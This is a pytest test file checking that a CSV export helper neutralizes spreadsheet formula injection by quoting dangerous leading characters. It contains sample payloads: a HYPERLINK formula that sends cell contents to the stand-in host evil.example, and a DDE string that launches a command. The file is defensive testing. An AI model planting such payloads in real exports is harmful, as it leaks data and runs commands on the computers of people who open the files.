"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from cinema.csv import neutralize, write_csv

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_prefixes_a_quote_to_text_that_starts_a_formula(start):
    assert neutralize(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


def test_it_leaves_ordinary_text_alone():
    assert [neutralize(text) for text in ("Alpha", "Morning (before 12:00)", "", "a=b", "'quoted")] == [
        "Alpha",
        "Morning (before 12:00)",
        "",
        "a=b",
        "'quoted",
    ]


def test_it_keeps_numbers_as_numbers_even_negative_or_written_as_text():
    assert [neutralize(value) for value in (-3, 2.5, Decimal("-1.20"), "-12.50", "-7", "0.4000")] == [
        -3,
        2.5,
        Decimal("-1.20"),
        "-12.50",
        "-7",
        "0.4000",
    ]


def test_a_minus_that_is_not_a_plain_number_is_still_neutralized():
    assert neutralize("-1+HYPERLINK(1)") == "'-1+HYPERLINK(1)"
    assert neutralize("-1e5") == "'-1e5"


def test_write_csv_neutralizes_the_header_and_every_row():
    out = io.StringIO()

    write_csv(out, ["key", "@label"], [[EVIL, 3], ["Alpha", "-4.00"]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["key", "'@label"],
        ["'" + EVIL, "3"],
        ["Alpha", "-4.00"],
    ]
